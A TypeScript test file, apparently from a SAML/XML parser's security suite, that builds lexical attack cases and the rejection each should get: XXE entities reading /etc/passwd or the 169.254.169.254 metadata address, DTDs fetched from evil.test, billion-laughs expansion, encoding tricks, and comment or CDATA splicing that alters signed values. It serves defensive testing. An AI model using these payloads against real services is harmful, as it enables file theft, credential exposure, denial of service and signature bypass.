// P01 to P07: what must never reach a reader at all: declarations, entities, other encodings, comments, processing
// instructions, CDATA, a second root. Refused by a look at the characters, at every door alike.
import type { Attack, Expected } from '../attack.js'
import { type Document, everywhere, type Everywhere } from '../play/everywhere.js'

type Edit = (document: Document) => string | Buffer

interface Hostile {
  readonly row: string
  readonly name: string
  readonly tries: string
  readonly edit: Edit
}

const answer = (stage: 'S0' | 'S1' | 'S2' | 'S3'): Expected => ({ code: 'partner.answer_malformed', stage })
const request = (stage: 'S0' | 'S1' | 'S2' | 'S3'): Expected => ({ code: 'request.malformed', stage })
const unreadable: Expected = { code: 'metadata.unreadable' }

const prolog =
  (declaration: string, entity = '&e;'): Edit =>
  ({ xml, value }) =>
    declaration + xml.replace(value, entity)

const declarations: readonly Hostile[] = [
  {
    row: 'P01',
    name: 'internal-entity',
    tries: 'declares an entity and has it stand for a name',
    edit: prolog('<!DOCTYPE r [<!ENTITY e "mallory">]>'),
  },
  {
    row: 'P01',
    name: 'external-entity-file',
    tries: 'has an entity read a file of ours',
    edit: prolog('<!DOCTYPE r [<!ENTITY e SYSTEM "file:///etc/passwd">]>'),
  },
  {
    row: 'P01',
    name: 'external-entity-http',
    tries: 'has an entity fetched from elsewhere',
    edit: prolog('<!DOCTYPE r [<!ENTITY e SYSTEM "http://169.254.169.254/latest/">]>'),
  },
  {
    row: 'P01',
    name: 'parameter-entity',
    tries: 'has a parameter entity load more declarations',
    edit: prolog('<!DOCTYPE r [<!ENTITY % p SYSTEM "http://evil.test/x.dtd"> %p;]>'),
  },
  {
    row: 'P01',
    name: 'external-subset',
    tries: 'names an external DTD and nothing else',
    edit: ({ xml }) => `<!DOCTYPE r PUBLIC "-//evil//EN" "http://evil.test/x.dtd">${xml}`,
  },
  {
    row: 'P01',
    name: 'default-attribute',
    tries: 'declares an ID attribute with a default value',
    edit: ({ xml }) => `<!DOCTYPE r [<!ATTLIST samlp:Response ID ID "_evil">]>${xml}`,
  },
  {
    row: 'P01',
    name: 'after-declaration',
    tries: 'declares an entity behind the XML declaration',
    edit: ({ xml, value }) =>
      `<?xml version="1.0"?>\n<!DOCTYPE r [<!ENTITY e "mallory">]>${xml.replace(value, '&e;')}`,
  },
  {
    row: 'P02',
    name: 'billion-laughs',
    tries: 'has entities of entities grow a billionfold',
    edit: prolog(`<!DOCTYPE r [<!ENTITY a0 "lol">${laughs(9)}]>`, '&a9;'),
  },
  {
    row: 'P02',
    name: 'quadratic-blow-up',
    tries: 'has one long entity stand a thousand times',
    edit: prolog(`<!DOCTYPE r [<!ENTITY e "${'x'.repeat(20_000)}">]>`, '&e;'.repeat(1000)),
  },
  {
    row: 'P02',
    name: 'recursive-entity',
    tries: 'has two entities name each other',
    edit: prolog('<!DOCTYPE r [<!ENTITY e "&f;"><!ENTITY f "&e;">]>'),
  },
]

const encodings: readonly (Hostile & { readonly byPost?: 'S0' })[] = [
  {
    row: 'P03',
    name: 'utf-16le-bom',
    tries: 'hides a DTD by sending UTF-16, little end first',
    edit: ({ xml }) => Buffer.from(`\ufeff<!DOCTYPE r>${xml}`, 'utf16le'),
    byPost: 'S0',
  },
  {
    row: 'P03',
    name: 'utf-16be-bom',
    tries: 'hides a DTD by sending UTF-16, big end first',
    edit: ({ xml }) => Buffer.from(`\ufeff<!DOCTYPE r>${xml}`, 'utf16le').swap16(),
    byPost: 'S0',
  },
  {
    row: 'P03',
    name: 'utf-16le-bare',
    tries: 'sends UTF-16 without a mark',
    edit: ({ xml }) => Buffer.from(xml, 'utf16le'),
  },
  {
    row: 'P03',
    name: 'utf-32le',
    tries: 'sends UTF-32',
    edit: ({ xml }) => utf32(`\ufeff${xml}`),
    byPost: 'S0',
  },
  {
    row: 'P03',
    name: 'declared-utf-7',
    tries: 'hides a DTD in UTF-7, which it declares',
    edit: ({ xml }) => `<?xml version="1.0" encoding="utf-7"?>+ADwAIQ-DOCTYPE r+AD4-${xml}`,
  },
  {
    row: 'P03',
    name: 'declared-utf-16',
    tries: 'declares UTF-16 over UTF-8',
    edit: ({ xml }) => `<?xml version="1.0" encoding="UTF-16"?>${xml}`,
  },
  {
    row: 'P03',
    name: 'declared-latin-1',
    tries: 'declares ISO-8859-1',
    edit: ({ xml }) => `<?xml version="1.0" encoding="ISO-8859-1"?>${xml}`,
  },
  {
    row: 'P03',
    name: 'declared-ebcdic',
    tries: 'declares EBCDIC',
    edit: ({ xml }) => `<?xml version="1.0" encoding="cp037"?>${xml}`,
  },
  {
    row: 'P03',
    name: 'declared-without-quotes',
    tries: 'declares an encoding in a way that only lenient readers take',
    edit: ({ xml }) => `<?xml version=1.0 encoding=utf-16?>${xml}`,
  },
  {
    row: 'P03',
    name: 'version-1.1',
    tries: 'declares XML 1.1, where other characters are allowed',
    edit: ({ xml }) => `<?xml version="1.1"?>${xml}`,
  },
  {
    row: 'P03',
    name: 'overlong-utf-8',
    tries: 'spells a less-than sign in two bytes',
    edit: ({ xml, value }) => around(xml, value, Buffer.from([0xc0, 0xbc])),
  },
  {
    row: 'P03',
    name: 'surrogates-in-utf-8',
    tries: 'spells an astral character as two surrogates of three bytes',
    edit: ({ xml, value }) => around(xml, value, Buffer.from([0xed, 0xa0, 0x80, 0xed, 0xb0, 0x80])),
  },
  {
    row: 'P03',
    name: 'cut-utf-8',
    tries: 'ends a character in the middle',
    edit: ({ xml, value }) => around(xml, value, Buffer.from([0xe2, 0x82])),
  },
]

/** What a comment or an instruction does in a message; in metadata both are dropped before anything is read. */
const interruptions: readonly Hostile[] = [
  {
    row: 'P04',
    name: 'comment-in-value',
    tries: 'splits a name by a comment',
    edit: within('<!-- -->'),
  },
  {
    row: 'P04',
    name: 'comment-hides-tail',
    tries: 'adds to a name behind a comment',
    edit: ({ xml, value }) => xml.replace(value, `${value}<!---->.evil.test`),
  },
  {
    row: 'P04',
    name: 'comment-between-elements',
    tries: 'puts a comment between elements',
    edit: ({ xml }) => xml.replace('><', '><!-- harmless? --><'),
  },
  {
    row: 'P04',
    name: 'comment-in-front',
    tries: 'puts a comment before the document',
    edit: ({ xml }) => `<!-- -->${xml}`,
  },
  {
    row: 'P04',
    name: 'comment-behind',
    tries: 'puts a comment behind the document',
    edit: ({ xml }) => `${xml}<!-- -->`,
  },
  {
    row: 'P05',
    name: 'instruction-in-value',
    tries: 'splits a name by a processing instruction',
    edit: within('<?x y?>'),
  },
  {
    row: 'P05',
    name: 'instruction-hides-value',
    tries: 'hides what was signed in a processing instruction whose text some canonicalisers keep',
    edit: ({ xml, value }) => xml.replace(value, `mallory<?${value} ?>`),
  },
  {
    row: 'P05',
    name: 'stylesheet-in-front',
    tries: 'names a stylesheet before the document',
    edit: ({ xml }) => `<?xml-stylesheet href="http://evil.test/x.xsl"?>${xml}`,
  },
  {
    row: 'P05',
    name: 'second-declaration',
    tries: 'puts another XML declaration inside',
    edit: ({ xml }) => xml.replace('><', '><?xml version="1.0"?><'),
  },
  {
    row: 'P05',
    name: 'instruction-behind',
    tries: 'puts a processing instruction behind the document',
    edit: ({ xml }) => `${xml}<?x?>`,
  },
]

const sections: readonly Hostile[] = [
  {
    row: 'P06',
    name: 'cdata-in-value',
    tries: 'splits a name by a CDATA section',
    edit: within('<![CDATA[]]>'),
  },
  {
    row: 'P06',
    name: 'cdata-value',
    tries: 'puts a name into a CDATA section',
    edit: ({ xml, value }) => xml.replace(value, `<![CDATA[${value}]]>`),
  },
  {
    row: 'P06',
    name: 'cdata-markup',
    tries: 'hides markup in a CDATA section',
    edit: ({ xml, value }) => xml.replace(value, `<![CDATA[</x><x>]]>${value}`),
  },
]

const roots: readonly Hostile[] = [
  {
    row: 'P06',
    name: 'cdata-end-in-text',
    tries: 'puts the end of a CDATA section into text',
    edit: within(']]>'),
  },
  { row: 'P07', name: 'two-roots', tries: 'sends the document twice in one', edit: ({ xml }) => xml + xml },
  { row: 'P07', name: 'root-behind', tries: 'puts another root behind', edit: ({ xml }) => `${xml}<evil/>` },
  {
    row: 'P07',
    name: 'text-behind',
    tries: 'puts text behind the document',
    edit: ({ xml }) => `${xml}mallory`,
  },
  {
    row: 'P07',
    name: 'open-root',
    tries: 'never closes the root',
    edit: ({ xml }) => xml.slice(0, xml.lastIndexOf('</')),
  },
  {
    row: 'P07',
    name: 'closed-twice',
    tries: 'closes the root twice',
    edit: ({ xml }) => xml + xml.slice(xml.lastIndexOf('</')),
  },
  {
    row: 'P07',
    name: 'text-in-front',
    tries: 'puts a less-than sign of nothing in front',
    edit: ({ xml }) => `< ${xml}`,
  },
]

/** In a form these do not look like XML, and are taken for something compressed. */
const marks: Hostile = {
  row: 'P07',
  name: 'two-marks',
  tries: 'begins with two byte order marks',
  edit: ({ xml }) => `\ufeff\ufeff${xml}`,
}

export const lexicalAttacks: readonly Attack[] = [
  ...declarations.flatMap((one) => atEveryDoor(one, 'S1')),
  ...encodings.flatMap(({ byPost, ...one }) => [
    ...everywhere({
      ...one,
      answer: answer('S1'),
      request: request('S1'),
      metadata: unreadable,
      ...(byPost === undefined ? {} : { byPost: request(byPost) }),
    }),
  ]),
  ...interruptions.flatMap((one) => [
    ...everywhere({ ...one, answer: answer('S1'), request: request('S1') }),
    ...dropped(one),
  ]),
  ...sections.flatMap((one) => atEveryDoor(one, 'S1')),
  ...roots.flatMap((one) => atEveryDoor(one, 'S2')),
  ...everywhere({
    ...marks,
    answer: answer('S2'),
    request: request('S2'),
    byPost: request('S0'),
    metadata: unreadable,
  }),
]

function atEveryDoor(one: Hostile, stage: 'S1' | 'S2'): readonly Attack[] {
  return everywhere({ ...one, answer: answer(stage), request: request(stage), metadata: unreadable })
}

function dropped({ name, ...one }: Hostile): readonly Attack[] {
  // These change what the document says, comment or no comment
  const changes: readonly string[] = ['comment-hides-tail', 'instruction-hides-value', 'second-declaration']
  if (changes.includes(name)) return []
  const metadata: Everywhere['metadata'] = { code: 'harmless' }
  return everywhere({ ...one, name, metadata })
}

function within(more: string): Edit {
  return ({ xml, value }) => xml.replace(value, value.slice(0, 3) + more + value.slice(3))
}

function around(xml: string, value: string, more: Buffer): Buffer {
  const at = xml.indexOf(value)
  return Buffer.concat([Buffer.from(xml.slice(0, at)), more, Buffer.from(xml.slice(at))])
}

function laughs(levels: number): string {
  return Array.from({ length: levels }, (_, at) => `<!ENTITY a${at + 1} "${`&a${at};`.repeat(10)}">`).join('')
}

function utf32(text: string): Buffer {
  const codes = Array.from(text, (character) => character.codePointAt(0) ?? 0)
  const bytes = Buffer.alloc(codes.length * 4)
  for (const [at, code] of codes.entries()) bytes.writeUInt32LE(code, at * 4)
  return bytes
}
